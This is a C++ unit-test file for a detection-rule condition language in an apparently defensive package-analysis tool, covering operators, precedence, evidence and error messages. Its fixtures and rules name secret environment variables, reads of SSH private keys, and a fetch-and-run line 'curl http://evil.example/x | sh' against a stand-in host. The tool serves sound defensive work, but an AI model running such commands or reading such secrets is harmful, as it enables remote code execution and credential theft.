// The condition language: every operator, precedence, the design's three examples, evidence,
// absent fields, and the compile errors with their line:column.
#include <gtest/gtest.h>

#include "tests/engine/analysis/analysis_test_support.h"

namespace vigil::engine::analysis {
namespace {

using test::compileText;
using test::maliciousFacts;

bool holds(const std::string& text, const nlohmann::json& facts, Evidence* evidence = nullptr) {
    auto compiled = compileText(text);
    EXPECT_TRUE(compiled.ok()) << text << "\n" << (compiled.ok() ? "" : compiled.error().describe());
    if (!compiled)
        return false;
    return evaluateCondition(**compiled, facts, evidence);
}

std::string compileError(const std::string& text) {
    auto compiled = compileText(text);
    EXPECT_FALSE(compiled.ok()) << text << " compiled but should not";
    return compiled.ok() ? std::string() : compiled.error().describe();
}

TEST(Condition, DesignExamplesCompileVerbatimAndHold) {
    const auto facts = maliciousFacts();
    EXPECT_TRUE(holds("category in ['string', 'math', 'date', 'validation'] AND events.network.count > 0", facts));
    EXPECT_TRUE(holds("events.env_read intersects ['AWS_SECRET*', 'GITHUB_TOKEN', 'NPM_TOKEN']", facts));
    EXPECT_TRUE(holds("phase == 'install' AND events.process.shell_commands.count > 0", facts));

    auto benign = facts;
    benign["category"] = "http-client";
    benign["events"]["env_read"] = {"HOME", "AWS_REGION"};
    benign["phase"] = "import";
    EXPECT_FALSE(holds("category in ['string', 'math', 'date', 'validation'] AND events.network.count > 0", benign));
    EXPECT_FALSE(holds("events.env_read intersects ['AWS_SECRET*', 'GITHUB_TOKEN', 'NPM_TOKEN']", benign));
    EXPECT_FALSE(holds("phase == 'install' AND events.process.shell_commands.count > 0", benign));
}

TEST(Condition, EveryComparisonOperator) {
    const auto f = maliciousFacts();
    EXPECT_TRUE(holds("events.network.count == 2", f));
    EXPECT_FALSE(holds("events.network.count != 2", f));
    EXPECT_TRUE(holds("events.network.count < 3", f));
    EXPECT_FALSE(holds("events.network.count < 2", f));
    EXPECT_TRUE(holds("events.network.count <= 2", f));
    EXPECT_TRUE(holds("events.network.count > 1", f));
    EXPECT_FALSE(holds("events.network.count > 2", f));
    EXPECT_TRUE(holds("events.network.count >= 2", f));
    EXPECT_TRUE(holds("norm.network.share < 0.05", f));
    EXPECT_TRUE(holds("norm.network.share > -1", f));
    EXPECT_TRUE(holds("phase != 'postinstall'", f));
    EXPECT_TRUE(holds("exfil.proven", f));
    EXPECT_TRUE(holds("exfil.proven == true", f));
    EXPECT_FALSE(holds("exfil.proven != true", f));
    EXPECT_TRUE(holds("exfil.proven != false", f));
}

TEST(Condition, EveryStringOperatorOnStringsAndLists) {
    const auto f = maliciousFacts();
    EXPECT_TRUE(holds("package.name contains 'pad'", f));
    EXPECT_FALSE(holds("package.name contains 'PAD'", f)) << "matching is case-sensitive";
    EXPECT_TRUE(holds("package.name startswith 'left-'", f));
    EXPECT_FALSE(holds("package.name startswith 'pad'", f));
    EXPECT_TRUE(holds("package.name endswith '-evil'", f));
    EXPECT_TRUE(holds("package.name glob 'left-*'", f));
    EXPECT_FALSE(holds("package.name glob 'right-*'", f));
    EXPECT_TRUE(holds("package.name in ['a', 'left-pad-*']", f)) << "list items are globs for 'in' too";
    EXPECT_FALSE(holds("package.name in ['left-pad']", f)) << "an item without * ? [ matches exactly";
    EXPECT_TRUE(holds("events.process.shell_commands contains '| sh'", f));
    EXPECT_TRUE(holds("events.files.read startswith '$HOME/.ssh/'", f));
    EXPECT_TRUE(holds("events.files.read endswith '/id_rsa'", f));
    EXPECT_TRUE(holds("events.files.read glob '$HOME/*'", f));
    EXPECT_TRUE(holds("events.network.hosts glob '*.example'", f));
    EXPECT_FALSE(holds("events.network.hosts glob '*.org'", f));
    EXPECT_TRUE(holds("events.network.hosts intersects ['cdn.test']", f));
    EXPECT_FALSE(holds("events.network.hosts intersects ['cdn']", f));
}

TEST(Condition, KeywordsAreCaseInsensitive) {
    const auto f = maliciousFacts();
    EXPECT_TRUE(holds("phase == 'install' and NOT exfil.proven == false Or category In ['x']", f));
    EXPECT_TRUE(holds("events.network.hosts INTERSECTS ['evil.example'] AND package.name STARTSWITH 'left'", f));
}

TEST(Condition, PrecedenceIsNotThenAndThenOr) {
    nlohmann::json f = {{"phase", "install"}, {"category", "math"}, {"package", {{"name", "x"}}}};
    // a or b and c == a or (b and c): a true, b and c false.
    EXPECT_TRUE(holds("phase == 'install' or category == 'no' and package.name == 'no'", f));
    EXPECT_FALSE(holds("(phase == 'install' or category == 'no') and package.name == 'no'", f));
    // not a and b == (not a) and b: a false, b false.
    EXPECT_FALSE(holds("not phase == 'import' and category == 'no'", f));
    EXPECT_TRUE(holds("not (phase == 'import' and category == 'no')", f));
    EXPECT_TRUE(holds("not not phase == 'install'", f));
    EXPECT_TRUE(holds("((phase == 'install'))", f));
}

TEST(Condition, ExistsAndCountOnLists) {
    auto f = maliciousFacts();
    EXPECT_TRUE(holds("events.env_read exists", f));
    EXPECT_FALSE(holds("diff.added.network.hosts exists", f));
    EXPECT_TRUE(holds("events.env_read.count == 4", f));
    EXPECT_TRUE(holds("diff.added.network.hosts.count == 0", f)) << "an absent list is empty";
    f["diff"] = {{"added", {{"network", {{"hosts", {"new.example"}}}}}}};
    EXPECT_TRUE(holds("diff.added.network.hosts exists and diff.added.network.hosts.count >= 1", f));
}

TEST(Condition, OutsideHoldsWhenAnElementMatchesNoItem) {
    const auto f = maliciousFacts();  // hosts: evil.example, cdn.test
    EXPECT_TRUE(holds("events.network.hosts outside ['cdn.test']", f));
    EXPECT_FALSE(holds("events.network.hosts outside ['cdn.test', '*.example']", f)) << "every host is listed";
    EXPECT_TRUE(holds("events.network.hosts OUTSIDE ['registry.npmjs.org']", f)) << "keywords are case-insensitive";
    // The point of the operator: one benign host next to an unknown one must not hide it, which
    // `not ... intersects` would.
    EXPECT_FALSE(holds("not events.network.hosts intersects ['cdn.test']", f));
    Evidence ev;
    ASSERT_TRUE(holds("events.network.hosts outside ['cdn.test']", f, &ev));
    EXPECT_EQ(ev["events.network.hosts"], (std::vector<std::string>{"evil.example"})) << "only the unlisted host";
    const nlohmann::json empty = nlohmann::json::object();
    EXPECT_FALSE(holds("events.network.hosts outside ['cdn.test']", empty)) << "an absent list has no element outside";
    EXPECT_NE(compileError("category outside ['string']").find("'outside' does not apply"), std::string::npos);
}

TEST(Condition, AbsentFieldsMakeComparisonsFalse) {
    const nlohmann::json empty = nlohmann::json::object();
    EXPECT_FALSE(holds("norm.network.share < 0.05", empty));
    EXPECT_FALSE(holds("norm.network.share >= 0.05", empty));
    EXPECT_FALSE(holds("norm.network.share != 1", empty)) << "even != is false on an absent number";
    EXPECT_TRUE(holds("not norm.network.share < 0.05", empty)) << "NOT inverts the false";
    EXPECT_FALSE(holds("phase != 'install'", empty));
    EXPECT_FALSE(holds("category in ['string']", empty));
    EXPECT_FALSE(holds("exfil.proven", empty));
    EXPECT_FALSE(holds("exfil.proven == false", empty));
    EXPECT_FALSE(holds("events.env_read intersects ['*']", empty));
    EXPECT_TRUE(holds("events.process.shell_commands.count == 0", empty));
    // A value of the wrong JSON type is treated as absent, not as a crash or a match.
    EXPECT_FALSE(holds("norm.network.share < 0.05", nlohmann::json{{"norm", {{"network", {{"share", "0.01"}}}}}}));
    EXPECT_FALSE(holds("events.env_read intersects ['*']", nlohmann::json{{"events", {{"env_read", "NPM_TOKEN"}}}}));
}

TEST(Condition, FactsMayUseFlatDottedKeys) {
    const nlohmann::json flat = {{"events.env_read", {"NPM_TOKEN"}}, {"norm", {{"network.share", 0.5}}}};
    EXPECT_TRUE(holds("events.env_read intersects ['NPM_TOKEN'] and norm.network.share > 0.4", flat));
}

TEST(Condition, EvidenceNamesTheMatchedValues) {
    Evidence ev;
    ASSERT_TRUE(holds("events.env_read intersects ['AWS_SECRET*', 'GITHUB_TOKEN', 'NPM_TOKEN'] and "
                      "events.network.hosts glob '*.example'",
                      maliciousFacts(), &ev));
    EXPECT_EQ(ev["events.env_read"], (std::vector<std::string>{"AWS_SECRET_ACCESS_KEY", "NPM_TOKEN"}));
    EXPECT_EQ(ev["events.network.hosts"], (std::vector<std::string>{"evil.example"}));

    ev.clear();
    ASSERT_TRUE(holds("phase == 'install' AND events.process.shell_commands.count > 0", maliciousFacts(), &ev));
    EXPECT_EQ(ev["phase"], (std::vector<std::string>{"install"}));
    EXPECT_EQ(ev["events.process.shell_commands"], (std::vector<std::string>{"curl http://evil.example/x | sh"}))
        << "a count's evidence is the list's items";

    ev.clear();
    ASSERT_TRUE(holds("events.network.count > 0 and norm.network.share < 0.05", maliciousFacts(), &ev));
    EXPECT_EQ(ev["events.network.count"], (std::vector<std::string>{"2"}));
    EXPECT_EQ(ev["norm.network.share"], (std::vector<std::string>{"0.02"}));
}

TEST(Condition, EvidenceComesOnlyFromBranchesThatHeld) {
    Evidence ev;
    ASSERT_TRUE(holds("(phase == 'install' and category == 'nope') or events.network.hosts intersects ['cdn.test'] "
                      "or package.name contains 'evil' and not exfil.proven == false",
                      maliciousFacts(), &ev));
    EXPECT_EQ(ev.count("phase"), 0u) << "the failed AND branch contributes nothing";
    EXPECT_EQ(ev["events.network.hosts"], (std::vector<std::string>{"cdn.test"}));
    EXPECT_EQ(ev["package.name"], (std::vector<std::string>{"left-pad-evil"}));
    EXPECT_EQ(ev.count("exfil.proven"), 0u) << "nothing under NOT";
}

TEST(Condition, ListReferencesExpandInPlace) {
    std::map<std::string, std::vector<Pattern>> lists{
        {"secret_envs", {Pattern::of("AWS_SECRET*"), Pattern::of("NPM_TOKEN")}},
        {"utility_categories", {Pattern::of("string"), Pattern::of("math")}}};
    auto c = compileText("events.env_read intersects secret_envs and category in ['date', utility_categories]", lists);
    ASSERT_TRUE(c.ok()) << c.error().describe();
    Evidence ev;
    EXPECT_TRUE(evaluateCondition(**c, maliciousFacts(), &ev));
    EXPECT_EQ(ev["category"], (std::vector<std::string>{"string"}));
}

TEST(ConditionErrors, SyntaxErrorsNameLineAndColumn) {
    EXPECT_NE(compileError("phase == 'install' and").find("<condition>:1:23: expected a field"), std::string::npos)
        << compileError("phase == 'install' and");
    EXPECT_NE(compileError("phase = 'install'").find("<condition>:1:7: '=' is not an operator"), std::string::npos);
    EXPECT_NE(compileError("phase == 'install").find("<condition>:1:10: unterminated string"), std::string::npos);
    EXPECT_NE(compileError("(phase == 'x'").find(":1:14: expected ')'"), std::string::npos);
    EXPECT_NE(compileError("phase == 'x' && category == 'y'").find(":1:14: '&&' is not an operator"),
              std::string::npos);
    EXPECT_NE(compileError("'install' == phase").find(":1:1: a comparison starts with a field name"),
              std::string::npos);
    EXPECT_NE(compileError("phase 'install'").find(":1:7: expected an operator after 'phase'"), std::string::npos);
    EXPECT_NE(compileError("category in ['a', ]").find(":1:19: expected a list item"), std::string::npos);
    EXPECT_NE(compileError("").find("the condition is empty"), std::string::npos);
    EXPECT_NE(compileError("phase == 'x'\n  or # 1").find("<condition>:2:6: unexpected character '#'"),
              std::string::npos);
}

TEST(ConditionErrors, CaretExcerptPointsAtTheProblem) {
    auto c = compileText("phase == 'install' and events.netwrk.count > 0");
    ASSERT_FALSE(c.ok());
    EXPECT_EQ(c.error().primary, "<condition>:1:24: unknown field 'events.netwrk.count'");
    EXPECT_EQ(c.error().secondary,
              " 1 | phase == 'install' and events.netwrk.count > 0\n"
              "     | " + std::string(23, ' ') + "^" + std::string(18, '~') + "\n"
              "  did you mean 'events.network.count'?");
}

TEST(ConditionErrors, UnknownNamesAndTypeMismatches) {
    EXPECT_NE(compileError("not_a_macro").find("1:1: unknown macro or field 'not_a_macro'"), std::string::npos);
    EXPECT_NE(compileError("category in unknown_list").find("1:13: unknown list 'unknown_list'"), std::string::npos);
    EXPECT_NE(compileError("events.network.count > 'many'").find("1:24: type mismatch: 'events.network.count' is a "
                                                                 "number field, compared with a string"),
              std::string::npos);
    EXPECT_NE(compileError("phase == 3").find("1:10: type mismatch: 'phase' is a string field"), std::string::npos);
    EXPECT_NE(compileError("exfil.proven == 'yes'").find("1:17: type mismatch"), std::string::npos);
    EXPECT_NE(compileError("phase > 'a'").find("1:7: '>' does not apply to 'phase', a string field"),
              std::string::npos);
    const std::string inOnList = compileError("events.env_read in ['A']");
    EXPECT_NE(inOnList.find("1:17: 'in' does not apply"), std::string::npos);
    EXPECT_NE(inOnList.find("with 'intersects'"), std::string::npos);
    EXPECT_NE(compileError("events.env_read > 1").find("events.env_read.count"), std::string::npos);
    EXPECT_NE(compileError("category").find("1:1: 'category' is a string field, not a condition"),
              std::string::npos);
    EXPECT_NE(compileError("category in ['a', 3]").find("1:19: 'category' holds strings"), std::string::npos);
    EXPECT_NE(compileError("phase.count > 1").find("unknown field 'phase.count'"), std::string::npos)
        << ".count exists only on string lists";
}

TEST(ConditionErrors, DeepNestingIsAnErrorNotACrash) {
    const std::string deep = std::string(5000, '(') + "phase == 'x'" + std::string(5000, ')');
    EXPECT_NE(compileError(deep).find("nests more than"), std::string::npos);
    std::string notChain;
    for (int i = 0; i < 5000; ++i)
        notChain += "not ";
    EXPECT_NE(compileError(notChain + "exfil.proven").find("nests more than"), std::string::npos);
    // A long flat chain is fine: it does not nest.
    std::string chain = "phase == 'install'";
    for (int i = 0; i < 20000; ++i)
        chain += " and phase == 'install'";
    EXPECT_TRUE(holds(chain, maliciousFacts()));
}

}  // namespace
}  // namespace vigil::engine::analysis
